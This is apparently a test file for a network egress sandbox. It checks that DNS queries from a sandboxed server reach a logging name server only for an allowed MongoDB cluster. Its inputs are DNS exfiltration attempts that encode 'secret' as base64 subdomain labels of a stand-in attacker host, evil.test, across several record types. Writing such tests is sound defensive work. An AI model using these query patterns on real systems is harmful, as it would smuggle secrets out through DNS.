import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { beginEgress, buildEgressImage, makeInternet, openWay } from '../../support/egress.ts';

before(buildEgressImage);

/** A name server that knows one cluster of MongoDB and one address for every other name, and tells over HTTP what it was asked. */
const nameServer = `
  const asked = [];
  const name = (text) => Buffer.concat([...text.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])), Buffer.from([0])]);
  const socket = require('dgram').createSocket('udp4');
  socket.on('message', (query, from) => {
    let at = 12; const labels = [];
    while (query[at] > 0) { labels.push(query.toString('latin1', at + 1, at + 1 + query[at])); at += 1 + query[at]; }
    const type = query.readUInt16BE(at + 1);
    asked.push(type + ' ' + labels.join('.').toLowerCase());
    const data = type === 1 ? Buffer.from([11, 0, 0, 1]) : type === 33 ? Buffer.concat([Buffer.from([0, 0, 0, 0, 0x69, 0x89]), name('s1.wild.test')]) : undefined;
    const head = Buffer.from(query.subarray(0, 12)); head[2] = 0x85; head[3] = 0x80;
    head.writeUInt16BE(1, 4); head.writeUInt16BE(data === undefined ? 0 : 1, 6); head.writeUInt16BE(0, 8); head.writeUInt16BE(0, 10);
    const parts = [head, query.subarray(12, at + 5)];
    if (data !== undefined) { const more = Buffer.alloc(12); more.writeUInt16BE(0xc00c, 0); more.writeUInt16BE(type, 2); more.writeUInt16BE(1, 4); more.writeUInt32BE(30, 6); more.writeUInt16BE(data.length, 10); parts.push(more, data); }
    socket.send(Buffer.concat(parts), from.port, from.address);
  });
  socket.bind(53, () => require('http').createServer((q, s) => s.end(JSON.stringify(asked))).listen(80, () => console.log('ready')));`;

test('no name that a server looks up reaches a name server but those of a cluster that is allowed', async (t) => {
  beginEgress(t);
  const internet = await makeInternet(t);
  const address = await internet.host([], nameServer);
  internet.nameServers.push(address);
  const { server } = await openWay(t, { internet, hosts: ['api.example.test:443', '*.wild.test:27017'] });
  const asked = async (): Promise<readonly string[]> => (await (await fetch(`http://${address}/`)).json()) as readonly string[];

  for (const code of [
    `dns.lookup('c2VjcmV0.evil.test')`,
    `dns.resolve4('c2VjcmV0.wild.test')`,
    `dns.resolveTxt('c2VjcmV0.evil.test')`,
    `dns.resolveTxt('c2VjcmV0.wild.test')`,
    `dns.resolveMx('c2VjcmV0.wild.test')`,
    `dns.resolveSrv('_c2VjcmV0._tcp.wild.test')`,
    `dns.resolveSrv('_mongodb._tcp.c2VjcmV0.evil.test')`,
    `dns.resolveCname('c2VjcmV0.api.example.test')`,
    `dns.resolve6('api.example.test')`,
  ]) {
    await server.run(`return ${code}`).catch(() => undefined);
  }
  assert.deepEqual(await asked(), []);
  assert.equal(await server.run(`return dns.lookup('api.example.test').then(() => 'found')`), 'found');

  const servers = await server.run<readonly { name: string; port: number }[]>(`return dns.resolveSrv('_mongodb._tcp.cluster.wild.test')`);
  assert.deepEqual(
    servers.map(({ name, port }) => [name, port]),
    [['s1.wild.test', 27_017]],
  );
  assert.deepEqual(await asked(), ['33 _mongodb._tcp.cluster.wild.test']);
});
